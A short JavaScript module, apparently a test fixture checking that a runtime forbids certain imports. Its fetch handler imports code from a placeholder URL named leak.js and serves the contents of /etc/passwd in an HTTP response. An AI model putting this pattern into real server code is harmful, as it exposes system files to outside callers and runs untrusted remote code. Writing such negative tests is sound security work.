import { readFileSync } from 'node:fs';
// @ts-expect-error There are no types for what must not be imported.
import leak from 'https://example.org/leak.js';

export default { fetch: () => new Response(`${leak}${readFileSync('/etc/passwd', 'utf8')}`) };
